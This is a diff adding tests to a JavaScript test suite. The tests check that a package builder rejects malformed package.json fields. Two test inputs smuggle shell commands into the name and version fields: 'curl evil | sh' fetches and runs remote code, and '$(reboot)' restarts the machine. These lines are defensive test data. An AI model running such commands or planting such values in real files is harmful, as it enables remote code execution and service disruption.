@@ -90,6 +90,20 @@ describe("package files the builder reads", () => {
     },
   );
 
+  it.each([
+    [{ name: "@test/a-fix; curl evil | sh" }, "/name", /must be an npm package name/],
+    [{ version: "1.0.0$(reboot)" }, "/version", /must be a semantic version/],
+    [{ version: 1 }, "/version", /expected string, found a number/],
+  ])("refuses package.json %j, which would be staged verbatim", async (pkg, pointer, message) => {
+    const root = makeWorkspace({ [A]: { pkg } });
+    const problems = await problemsOf(root);
+    expect(problems).toContainEqual({
+      file: `${A}/package.json`,
+      pointer,
+      message: expect.stringMatching(message),
+    });
+  });
+
   it("refuses modelSetup.manifest pointing into node_modules", async () => {
     const root = makeWorkspace({
       [A]: { pkg: { modelSetup: { manifest: "node_modules/x/manifest.json" } } },
